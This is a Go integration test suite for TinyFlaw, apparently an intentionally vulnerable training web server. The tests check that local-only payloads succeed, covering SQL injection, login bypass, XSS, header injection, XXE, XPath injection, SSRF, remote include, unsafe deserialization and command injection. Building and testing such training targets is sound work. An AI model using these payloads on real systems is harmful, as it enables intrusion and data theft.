package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/RIZZZIOM/TinyFlaw/builder"
	"github.com/RIZZZIOM/TinyFlaw/catalog"
	"github.com/RIZZZIOM/TinyFlaw/config"
	"github.com/RIZZZIOM/TinyFlaw/dataset"
	"github.com/RIZZZIOM/TinyFlaw/server"
)

// =============================================================================
// Test harness: Config → Builder → Server over a real socket
// =============================================================================

type testApp struct {
	base    string
	root    string
	builder *builder.Builder
	server  *server.Server
}

func startApp(t *testing.T, modify func(*config.Config)) *testApp {
	t.Helper()

	cfg := config.Default()
	cfg.App.Port = 0
	cfg.App.DocumentRoot = t.TempDir()
	cfg.Sinks.LookupCommand = "echo"
	if modify != nil {
		modify(cfg)
	}

	b := builder.New(cfg, nil)
	srv, err := b.Build()
	if err != nil {
		t.Fatalf("Failed to build server: %v", err)
	}

	if err := srv.Listen(context.Background()); err != nil {
		t.Fatalf("Failed to listen: %v", err)
	}

	go func() {
		if err := srv.Start(); err != nil {
			t.Logf("Server error: %v", err)
		}
	}()

	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		if err := srv.Stop(ctx); err != nil {
			t.Errorf("Server stop failed: %v", err)
		}
		if err := b.Close(); err != nil {
			t.Errorf("Builder close failed: %v", err)
		}
	})

	return &testApp{
		base:    "http://" + srv.Addr(),
		root:    cfg.App.DocumentRoot,
		builder: b,
		server:  srv,
	}
}

func (a *testApp) get(t *testing.T, target string) (*http.Response, string) {
	t.Helper()

	resp, err := http.Get(a.base + target)
	if err != nil {
		t.Fatalf("GET %s failed: %v", target, err)
	}
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("Failed to read body of %s: %v", target, err)
	}
	return resp, string(body)
}

func requireShell(t *testing.T) {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("shell-based test")
	}
}

// =============================================================================
// Store-backed handlers
// =============================================================================

func TestIntegration_UserLookup(t *testing.T) {
	app := startApp(t, nil)

	ds, err := dataset.Default()
	if err != nil {
		t.Fatalf("Failed to load dataset: %v", err)
	}

	for i, u := range ds.Users() {
		id := i + 1
		resp, body := app.get(t, fmt.Sprintf("/?id=%d", id))
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("id=%d: expected 200, got %d", id, resp.StatusCode)
		}

		row := fmt.Sprintf("<tr><td>%d</td><td>%s</td><td>%s</td><td>%s</td></tr>", id, u.Username, u.Name, u.Surname)
		if !strings.Contains(body, row) {
			t.Errorf("id=%d: expected row %q", id, row)
		}
	}
}

func TestIntegration_UnionInjection(t *testing.T) {
	app := startApp(t, nil)

	cat := catalog.New(app.base)
	var exploit string
	for _, tc := range cat.Cases() {
		if tc.Name == "UNION SQL Injection" {
			exploit = tc.Exploit
		}
	}

	_, body := app.get(t, exploit)
	if !strings.Contains(body, "1,admin,7en8aiDoh!") {
		t.Errorf("Expected admin password to leak, got '%s'", body)
	}
}

func TestIntegration_SQLError(t *testing.T) {
	app := startApp(t, nil)

	resp, body := app.get(t, "/?id=2'")
	if resp.StatusCode != http.StatusInternalServerError {
		t.Errorf("Expected 500, got %d", resp.StatusCode)
	}
	if !strings.Contains(body, "Traceback (handler sql_injection)") {
		t.Errorf("Expected diagnostic trace, got '%s'", body)
	}
}

func TestIntegration_Login(t *testing.T) {
	app := startApp(t, nil)

	resp, body := app.get(t, "/login?username=admin&password="+url.QueryEscape("7en8aiDoh!"))
	if !strings.Contains(body, "Welcome <b>admin</b>") {
		t.Errorf("Expected welcome, got '%s'", body)
	}

	var session string
	for _, c := range resp.Cookies() {
		if c.Name == "SESSIONID" {
			session = c.Value
		}
	}
	if !regexp.MustCompile(`^[A-Za-z0-9]{20}$`).MatchString(session) {
		t.Errorf("Expected 20 character session token, got '%s'", session)
	}

	resp, body = app.get(t, "/login?username=admin&password=wrong")
	if !strings.Contains(body, "The username and/or password is incorrect") {
		t.Errorf("Expected failure text, got '%s'", body)
	}
	if !strings.Contains(resp.Header.Get("Set-Cookie"), "expires=Thu, 01 Jan 1970 00:00:00 GMT") {
		t.Errorf("Expected expired cookie, got '%s'", resp.Header.Get("Set-Cookie"))
	}
}

func TestIntegration_LoginBypass(t *testing.T) {
	app := startApp(t, nil)

	tests := []string{
		"/login?username=admin&password=%27%20OR%20%271%27%20LIKE%20%271",
		"/login?username=admin&password=%27%2F*&password=*%2FOR%2F*&password=*%2F%271%27%2F*&password=*%2FLIKE%2F*&password=*%2F%271",
	}

	for _, target := range tests {
		_, body := app.get(t, target)
		if !strings.Contains(body, "Welcome <b>admin</b>") {
			t.Errorf("%s: expected bypass, got '%s'", target, body)
		}
	}
}

func TestIntegration_Comments(t *testing.T) {
	app := startApp(t, nil)

	text := "<b>hello</b>"
	for i := 0; i < 2; i++ {
		_, body := app.get(t, "/?comment="+url.QueryEscape(text))
		if !strings.Contains(body, "Thank you for leaving the comment") {
			t.Fatalf("Expected thank-you page, got '%s'", body)
		}
	}

	_, body := app.get(t, "/?comment=")
	if strings.Count(body, "<td>"+text+"</td>") != 2 {
		t.Errorf("Expected two rows with the comment, got '%s'", body)
	}
	if !strings.Contains(body, "<tr><td>1</td>") || !strings.Contains(body, "<tr><td>2</td>") {
		t.Error("Expected sequential comment ids")
	}
}

// =============================================================================
// JSON export
// =============================================================================

func TestIntegration_UsersJSON(t *testing.T) {
	app := startApp(t, nil)

	_, body := app.get(t, "/users.json")

	var got map[string]string
	if err := json.Unmarshal([]byte(body), &got); err != nil {
		t.Fatalf("Expected JSON object, got '%s': %v", body, err)
	}

	ds, _ := dataset.Default()
	want := ds.Surnames()
	if len(got) != len(want) {
		t.Errorf("Expected %d keys, got %d", len(want), len(got))
	}
	for username, surname := range want {
		if got[username] != surname {
			t.Errorf("Expected %s -> %s, got %s", username, surname, got[username])
		}
	}

	_, wrapped := app.get(t, "/users.json?callback=foo")
	if wrapped != "foo("+body+")" {
		t.Errorf("Expected JSONP framing, got '%s'", wrapped)
	}
}

// =============================================================================
// Routing and framing
// =============================================================================

func TestIntegration_NotFound(t *testing.T) {
	app := startApp(t, nil)

	resp, body := app.get(t, "/does-not-exist")
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("Expected 404, got %d", resp.StatusCode)
	}
	if strings.Contains(body, "Attacks:") {
		t.Error("Expected no catalog on 404")
	}
}

func TestIntegration_FixedHeaders(t *testing.T) {
	app := startApp(t, nil)

	for _, target := range []string{"/", "/?id=1", "/users.json", "/nope", "/?size=abc"} {
		resp, _ := app.get(t, target)
		if resp.Header.Get("X-XSS-Protection") != "0" {
			t.Errorf("%s: missing X-XSS-Protection", target)
		}
		if !resp.Close {
			t.Errorf("%s: expected connection close", target)
		}
		if !strings.Contains(resp.Header.Get("Content-Type"), "charset=utf-8") {
			t.Errorf("%s: unexpected Content-Type '%s'", target, resp.Header.Get("Content-Type"))
		}
	}

	resp, _ := app.get(t, "/users.json")
	if !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/plain") {
		t.Error("Expected text/plain for JSON export")
	}
}

func TestIntegration_HeaderInjection(t *testing.T) {
	app := startApp(t, nil)

	conn, err := net.Dial("tcp", strings.TrimPrefix(app.base, "http://"))
	if err != nil {
		t.Fatalf("Failed to connect: %v", err)
	}
	defer conn.Close()

	fmt.Fprint(conn, "GET /?charset=utf8%0D%0ASet-Cookie:%20injected=1 HTTP/1.0\r\nHost: localhost\r\n\r\n")

	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("Failed to read response: %v", err)
	}
	defer resp.Body.Close()

	if resp.Header.Get("Set-Cookie") != "injected=1" {
		t.Errorf("Expected injected header, got %v", resp.Header)
	}
}

func TestIntegration_Reflected(t *testing.T) {
	app := startApp(t, nil)

	_, body := app.get(t, "/?v=0.2%3Cscript%3Ealert(1)%3C%2Fscript%3E")
	if !strings.Contains(body, "v<b>0.2<script>alert(1)</script></b>") {
		t.Errorf("Expected reflected value in footer, got '%s'", body)
	}
}

func TestIntegration_Redirect(t *testing.T) {
	app := startApp(t, nil)

	_, body := app.get(t, "/?redir=http%3A%2F%2Fexample.com")
	if !strings.Contains(body, `<meta http-equiv="refresh" content="0; url=http://example.com"/>`) {
		t.Errorf("Expected refresh meta, got '%s'", body)
	}
	if strings.Contains(body, "Attacks:") || strings.Contains(body, "Powered by") {
		t.Error("Expected neither catalog nor postfix")
	}
}

// =============================================================================
// Resource exhaustion
// =============================================================================

func TestIntegration_Size(t *testing.T) {
	app := startApp(t, nil)

	resp, body := app.get(t, "/?size=1000")
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("Expected 200, got %d", resp.StatusCode)
	}
	if !strings.Contains(body, "1000x1000") {
		t.Error("Expected dimensions in body")
	}

	m := regexp.MustCompile(`: ([0-9.]+) seconds`).FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("Expected elapsed time, got '%s'", body)
	}
	if elapsed, err := strconv.ParseFloat(m[1], 64); err != nil || elapsed < 0 {
		t.Errorf("Expected nonnegative elapsed time, got '%s'", m[1])
	}

	resp, body = app.get(t, "/?size=abc")
	if resp.StatusCode != http.StatusInternalServerError {
		t.Errorf("Expected 500, got %d", resp.StatusCode)
	}
	if !strings.Contains(body, "invalid size") {
		t.Errorf("Expected diagnostic content, got '%s'", body)
	}
}

// =============================================================================
// Catalog
// =============================================================================

func TestIntegration_Catalog(t *testing.T) {
	app := startApp(t, nil)
	cases := catalog.New(app.base).Cases()

	_, first := app.get(t, "/")
	_, second := app.get(t, "/")
	if first != second {
		t.Error("Expected identical index pages")
	}

	last := -1
	for _, tc := range cases {
		pos := strings.Index(first, tc.Name+" - ")
		if pos < 0 {
			t.Fatalf("Missing case %s", tc.Name)
		}
		if pos < last {
			t.Errorf("Case %s out of order", tc.Name)
		}
		last = pos
	}

	if strings.Contains(first, `class="disabled"`) {
		t.Error("Expected no disabled cases with XML enabled")
	}

	noXML := startApp(t, func(c *config.Config) { c.Features.XML = false })
	_, body := noXML.get(t, "/")

	disabled := 0
	for _, tc := range cases {
		if tc.RequiresXML {
			disabled++
		}
	}
	if strings.Count(body, `class="disabled"`) != disabled {
		t.Errorf("Expected %d disabled cases", disabled)
	}
}

// =============================================================================
// Files, network and scripts
// =============================================================================

func TestIntegration_FileAccess(t *testing.T) {
	app := startApp(t, nil)

	if err := os.WriteFile(filepath.Join(app.root, "note.txt"), []byte("secret note"), 0644); err != nil {
		t.Fatal(err)
	}

	_, body := app.get(t, "/?path=note.txt")
	if body != "secret note" {
		t.Errorf("Expected file content, got '%s'", body)
	}

	// SSRF against the service itself
	_, body = app.get(t, "/?path="+url.QueryEscape(app.base+"/users.json"))
	if !strings.Contains(body, `"dricci":"ricci"`) {
		t.Errorf("Expected fetched JSON, got '%s'", body)
	}

	resp, body := app.get(t, "/?path=foobar")
	if resp.StatusCode != http.StatusInternalServerError {
		t.Errorf("Expected 500, got %d", resp.StatusCode)
	}
	if !strings.Contains(body, filepath.Join(app.root, "foobar")) {
		t.Errorf("Expected full path disclosure, got '%s'", body)
	}
}

func TestIntegration_XXE(t *testing.T) {
	app := startApp(t, nil)

	secret := filepath.Join(app.root, "secret.txt")
	if err := os.WriteFile(secret, []byte("top secret"), 0644); err != nil {
		t.Fatal(err)
	}

	doc := fmt.Sprintf(`<!DOCTYPE r [<!ENTITY xxe SYSTEM "file://%s">]><root>&xxe;</root>`, filepath.ToSlash(secret))
	_, body := app.get(t, "/?xml="+url.QueryEscape(doc))
	if !strings.Contains(body, "<root>top secret</root>") {
		t.Errorf("Expected expanded entity, got '%s'", body)
	}
}

func TestIntegration_XPath(t *testing.T) {
	app := startApp(t, nil)

	_, body := app.get(t, "/?name=dian")
	if !strings.Contains(body, "<b>Surname:</b> ricci") {
		t.Errorf("Expected surname, got '%s'", body)
	}

	_, body = app.get(t, "/?name=admin%27%20and%20substring(password%2Ftext()%2C3%2C1)%3D%27n")
	if !strings.Contains(body, "<b>Surname:</b> admin") {
		t.Errorf("Expected blind XPath true condition, got '%s'", body)
	}

	_, body = app.get(t, "/?name=admin%27%20and%20substring(password%2Ftext()%2C3%2C1)%3D%27x")
	if !strings.Contains(body, "<b>Surname:</b> -") {
		t.Errorf("Expected blind XPath false condition, got '%s'", body)
	}
}

func TestIntegration_Include(t *testing.T) {
	app := startApp(t, nil)

	script := `print("query=" + QUERY_STRING)`
	if err := os.WriteFile(filepath.Join(app.root, "hello.js"), []byte(script), 0644); err != nil {
		t.Fatal(err)
	}

	_, body := app.get(t, "/?include=hello.js&x=1")
	if !strings.Contains(body, "query=include=hello.js&x=1") {
		t.Errorf("Expected script output, got '%s'", body)
	}
	if !strings.Contains(body, "<span>Attacks:</span>") {
		t.Error("Expected the catalog after the script output")
	}
}

func TestIntegration_RemoteInclude(t *testing.T) {
	app := startApp(t, nil)

	target := "/?include=" + url.QueryEscape(app.base+"/users.json?callback=print(JSON.stringify")
	_, body := app.get(t, target)
	if !strings.Contains(body, `"dricci":"ricci"`) {
		t.Errorf("Expected remote script output, got '%s'", body)
	}
}

func TestIntegration_Deserialization(t *testing.T) {
	requireShell(t)
	app := startApp(t, nil)

	_, body := app.get(t, "/?object="+url.QueryEscape("{name: dian, out: !system echo pwned}"))
	if !strings.Contains(body, "pwned") || !strings.Contains(body, "name:dian") {
		t.Errorf("Expected constructed object with command output, got '%s'", body)
	}
}

// =============================================================================
// Command execution
// =============================================================================

func TestIntegration_CommandInjection(t *testing.T) {
	requireShell(t)
	app := startApp(t, nil)

	resp, body := app.get(t, "/?domain="+url.QueryEscape("example.com; echo injected"))
	if resp.StatusCode != http.StatusOK {
		t.Errorf("Expected 200, got %d", resp.StatusCode)
	}
	if body != "example.com\ninjected\n" {
		t.Errorf("Unexpected output '%s'", body)
	}

	resp, body = app.get(t, "/?domain="+url.QueryEscape("x; echo failed >&2; exit 4"))
	if resp.StatusCode != http.StatusInternalServerError {
		t.Errorf("Expected 500, got %d", resp.StatusCode)
	}
	if body != "x\nfailed\n" {
		t.Errorf("Expected combined output verbatim, got '%s'", body)
	}
}

// =============================================================================
// Methods
// =============================================================================

func TestIntegration_NonGET(t *testing.T) {
	app := startApp(t, nil)

	resp, err := http.Post(app.base+"/?id=1", "text/plain", strings.NewReader("x"))
	if err != nil {
		t.Fatalf("Request failed: %v", err)
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusNotImplemented {
		t.Errorf("Expected 501, got %d", resp.StatusCode)
	}
}
